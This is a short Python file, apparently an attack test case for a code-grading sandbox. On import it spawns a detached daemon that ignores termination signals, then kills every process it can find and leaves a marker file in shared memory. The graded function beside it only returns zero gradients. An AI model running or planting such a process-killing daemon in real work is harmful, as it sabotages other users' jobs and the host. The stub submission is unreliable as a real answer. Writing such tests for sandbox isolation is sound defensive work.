"""Attack: a daemon that sleeps through its submission's end (double fork, own session, signals ignored) and
wakes up to kill and write while the classmates graded after it run."""
import os
import signal
import time

import numpy as np

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        time.sleep(6)
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
        open("/dev/shm/sbx-attack-late", "w").write("awake")
        time.sleep(300)
    os._exit(0)


def backward(weights, biases, activations, targets):
    return [np.zeros_like(W) for W in weights], [np.zeros_like(b) for b in biases]
